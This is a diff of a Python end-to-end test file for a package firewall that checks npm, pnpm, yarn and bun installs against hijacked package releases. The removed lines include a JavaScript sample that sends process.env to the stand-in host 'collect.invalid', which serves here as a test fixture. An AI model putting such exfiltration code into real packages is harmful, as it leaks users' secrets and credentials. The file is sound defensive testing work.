@@ -1,117 +1,164 @@
-"""A hostile patch is published: what each client installs directly, it cannot get through here.
+"""Hostile patches are published: what each client installs directly, it cannot get through here.
 
-Nothing of the client's own holds it back: the release is old enough for every cooldown, and the
-policy's own cooldown is off. What refuses it is what its code newly does.
+Nothing of the client's own holds them back. Three firewalls stand before one upstream: one with the
+recommended cooldown, one whose clock is past it, and one whose policy has none. The first hides
+what is young; the others show that it is the content which is refused.
 """
 
 from __future__ import annotations
 
-import json
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
+from contextlib import ExitStack
+from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from tests.clients import Client, Clients
+import urllib3
+from tests.clients import Clients, Ran
+from tests.clients.commands import (
+    NOWHERE,
+    by_its_files,
+    each_client,
+    install,
+    kind_of,
+    manager_of,
+)
 from tests.e2e import installing
+from tests.e2e.forge import Forge
+from tests.e2e.hostile import SHAPES, TWIN, Shape, mend, project, publish, shapes, versions
 from tests.e2e.serving import Served, served
 from tests.registry import Registry
 
+from pratique.cli import main
+
 pytestmark = pytest.mark.online
 
-WIDGET, TWIN = "pratique-test-widget", "pratique-test-twin"
-POLICY = 'preset = "recommended"\n[rules]\n"release-age/too-new" = "off"\n'
-PLAIN = "module.exports = (a) => a + 1;\n"
-# It says nothing to anybody: the host does not exist.
-THIEF = (
-    "const https = require('https');\n"
-    "https.request({host: 'collect.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"
-) + PLAIN
-CLIENTS = ("npm11", "pnpm11", "yarn1", "yarn4", "bun")
-PRINTS_THE_PHRASE = frozenset({"npm11", "pnpm11", "yarn4"})
+NOW = datetime.now(UTC)  # noqa: TID251 - the firewalls that are served have the machine's clock
+RECOMMENDED = 'preset = "recommended"\n'
+NO_COOLDOWN = f'{RECOMMENDED}[rules]\n"release-age/too-new" = "off"\n'
+FIREWALLS = {
+    "cooldown": (RECOMMENDED, timedelta()),
+    "past": (RECOMMENDED, timedelta(days=10)),
+    "off": (NO_COOLDOWN, timedelta()),
+}
+"""Name -> policy, and how far ahead its clock is."""
+CONTENT = ("past", "off")
+PRINTS_THE_PHRASE = frozenset({"npm", "pnpm", "yarn4"})
 """yarn 1 prints the status alone for an artifact, bun the address."""
+EACH_SHAPE = [SHAPES[0], *(pytest.param(each, marks=pytest.mark.full) for each in SHAPES[1:])]
+
+
+@dataclass(frozen=True)
+class Stage:
+    """The upstream with its hijacked packages, the firewalls before it, and the clients."""
+
+    clients: Clients
+    registry: Registry
+    every: Mapping[str, Shape]
+    firewalls: Mapping[str, Served]
+
+    @property
+    def hijacked(self) -> list[str]:
+        return [each.package for each in self.every.values()]
+
+    def through(self, kind: str, name: str, folder: Path, *, frozen: bool = False) -> Ran:
+        url = self.firewalls[kind].url
+        main(["setup", manager_of(name), "--registry", url, "--directory", str(folder)])
+        client = by_its_files(self.clients[name])
+        return client.run(install(name, frozen=frozen), cwd=folder, registry=NOWHERE)
 
 
 @pytest.fixture(scope="module")
-def registry() -> Iterator[Registry]:
-    now = datetime.now(UTC)  # noqa: TID251 - the firewall that is served has the machine's clock
-    with Registry() as made:
-        for days, version, code in ((90, "1.0.0", PLAIN), (40, "1.0.1", THIEF)):
-            at = now - timedelta(days=days)
-            made.publish(WIDGET, version, published=at, files={"index.js": code})
-            twin = PLAIN + f"// {version}\n"
-            made.publish(TWIN, version, published=at, files={"index.js": twin})
-        yield made
+def stage(clients: Clients, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    with ExitStack() as stack:
+        forge = stack.enter_context(Forge(tmp_path_factory.mktemp("forge"), "left-step"))
+        registry = stack.enter_context(Registry())
+        every = shapes(forge.dependency)
+        publish(registry, every, NOW)
+        firewalls = {}
+        for kind, (policy, ahead) in FIREWALLS.items():
+            options = ("--fresh", "1 seconds", "--wait", "60 seconds")
+            firewall = served(
+                registry, tmp_path_factory.mktemp(kind), policy, *options, ahead=ahead
+            )
+            firewalls[kind] = stack.enter_context(firewall)
+        yield Stage(clients, registry, every, firewalls)
 
 
-@pytest.fixture(scope="module")
-def firewall(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
-    with served(registry, tmp_path_factory.mktemp("firewall"), POLICY) as made:
-        yield made
-
-
-def project(folder: Path) -> Path:
-    folder.mkdir()
-    wanted = {WIDGET: "^1.0.0", TWIN: "^1.0.0"}
-    manifest = {"name": "p", "version": "1.0.0", "private": True, "dependencies": wanted}
-    installing.write_json(folder / "package.json", manifest)
-    # yarn 4 writes files instead of a linker's script, and checks no release's age itself.
-    (folder / ".yarnrc.yml").write_text("nodeLinker: node-modules\nnpmMinimalAgeGate: 0\n")
-    return folder
-
-
-def versions(folder: Path) -> dict[str, str]:
-    found = {}
-    for name in (WIDGET, TWIN):
-        manifest = folder / "node_modules" / name / "package.json"
-        found[name] = json.loads(manifest.read_text())["version"]
-    return found
-
-
-def client_of(clients: Clients, name: str) -> Client:
-    return getattr(clients, name)  # type: ignore[no-any-return]  # a field for each client
-
-
-@pytest.mark.parametrize("name", CLIENTS)
-def test_what_a_client_installs_directly_it_does_not_get_through_the_firewall(
-    name: str, clients: Clients, registry: Registry, firewall: Served, tmp_path: Path
+@pytest.mark.parametrize("name", each_client())
+def test_the_control_directly_each_client_installs_every_hostile_patch(
+    name: str, stage: Stage, tmp_path: Path
 ) -> None:
-    client = client_of(clients, name)
-    direct = project(tmp_path / "direct")
-    installing.install(client, direct, registry)
-    assert versions(direct)[WIDGET] == "1.0.1"
+    folder = project(tmp_path / "direct", name, *stage.hijacked)
+    installing.install(stage.clients[name], folder, stage.registry)
+    assert versions(folder) == dict.fromkeys([*stage.hijacked, TWIN], "1.0.1")
 
-    behind = project(tmp_path / "behind")
-    ran = client.run(["install"], cwd=behind, registry=firewall.url)
+
+@pytest.mark.parametrize("kind", FIREWALLS)
+@pytest.mark.parametrize("name", each_client())
+def test_through_the_firewall_none_gets_any_and_each_gets_what_is_good(
+    name: str, kind: str, stage: Stage, tmp_path: Path
+) -> None:
+    folder = project(tmp_path / "behind", name, *stage.hijacked)
+    ran = stage.through(kind, name, folder)
     assert ran.returncode == 0, ran.stdout + ran.stderr
-    assert versions(behind) == {WIDGET: "1.0.0", TWIN: "1.0.1"}
+    twin = "1.0.1" if kind in CONTENT else "1.0.0"
+    assert versions(folder) == {**dict.fromkeys(stage.hijacked, "1.0.0"), TWIN: twin}
 
 
-@pytest.mark.parametrize("name", CLIENTS)
-def test_a_lockfile_that_already_has_it_does_not_get_it_either(
-    name: str, clients: Clients, registry: Registry, firewall: Served, tmp_path: Path
+@pytest.mark.parametrize("kind", CONTENT)
+@pytest.mark.parametrize("shape", EACH_SHAPE)
+@pytest.mark.parametrize("name", each_client())
+def test_a_lockfile_that_already_pins_it_does_not_get_it_either(
+    name: str, shape: str, kind: str, stage: Stage, tmp_path: Path
 ) -> None:
-    client = client_of(clients, name)
-    folder = project(tmp_path / "locked")
-    lockfile = installing.install(client, folder, registry)
+    package = stage.every[shape].package
+    folder = project(tmp_path / "locked", name, package)
+    lockfile = installing.install(stage.clients[name], folder, stage.registry)
+    assert versions(folder)[package] == "1.0.1"
     installing.forget_installed(folder)
     text = lockfile.read_text()
-    lockfile.write_text(text.replace(registry.url, firewall.url))
-    ran = client.run(["install"], cwd=folder, registry=firewall.url)
+    lockfile.write_text(text.replace(stage.registry.url, stage.firewalls[kind].url))
+    ran = stage.through(kind, name, folder, frozen=True)
     said = ran.stdout + ran.stderr
-    code = folder / "node_modules" / WIDGET / "index.js"
     assert ran.returncode != 0, said
-    assert not code.exists() or "collect.invalid" not in code.read_text()
-    if name in PRINTS_THE_PHRASE:
+    assert package not in versions(folder)
+    if kind_of(name) in PRINTS_THE_PHRASE:
         assert "blocked by policy" in said or "not present in registry" in said, said
 
 
-def test_the_log_names_the_rule_about_content(firewall: Served) -> None:
-    log = firewall.log("--package", WIDGET)
-    assert f"{WIDGET}@1.0.1  behavior/new-capability" in log
+@pytest.mark.parametrize("shape", SHAPES)
+@pytest.mark.parametrize("kind", CONTENT)
+def test_the_log_names_the_rule_about_content(kind: str, shape: str, stage: Stage) -> None:
+    each = stage.every[shape]
+    log = stage.firewalls[kind].log("--package", each.package)
+    assert f"{each.package}@1.0.1  {each.rule}" in log
+    assert "release-age/" not in log
 
 
-def test_the_hostile_artifact_left_the_firewall_not_once(firewall: Served) -> None:
-    rows = [json.loads(line) for line in firewall.log("--format", "jsonl").splitlines()]
-    given = {row["name"] for row in rows if row.get("status") == 200 and row["version"] == "1.0.1"}
-    assert given == {TWIN}
+@pytest.mark.parametrize("kind", FIREWALLS)
+def test_no_hostile_artifact_left_the_firewall(kind: str, stage: Stage) -> None:
+    rows = stage.firewalls[kind].requests()
+    given = {row["name"] for row in rows if row["status"] == 200 and row["version"] == "1.0.1"}
+    assert given <= {TWIN}
+
+
+@pytest.mark.parametrize("name", each_client(always=("npm12",)))
+def test_a_good_release_that_follows_is_installed(name: str, stage: Stage, tmp_path: Path) -> None:
+    if "1.0.2" not in stage.registry.shelves[TWIN].versions:
+        mend(stage.registry, stage.every, NOW)
+    for package in (*stage.hijacked, TWIN):
+        await_shown(stage.firewalls["off"], package, "1.0.2")
+    folder = project(tmp_path / "behind", name, *stage.hijacked)
+    ran = stage.through("off", name, folder)
+    assert ran.returncode == 0, ran.stdout + ran.stderr
+    assert versions(folder) == dict.fromkeys([*stage.hijacked, TWIN], "1.0.2")
+
+
+def await_shown(firewall: Served, name: str, version: str) -> None:
+    for _attempt in range(500):
+        answer = urllib3.request("GET", firewall.url + name, timeout=60, retries=False)
+        if version in answer.json().get("versions", {}):
+            return
+    raise AssertionError(f"{name}@{version} is still hidden")
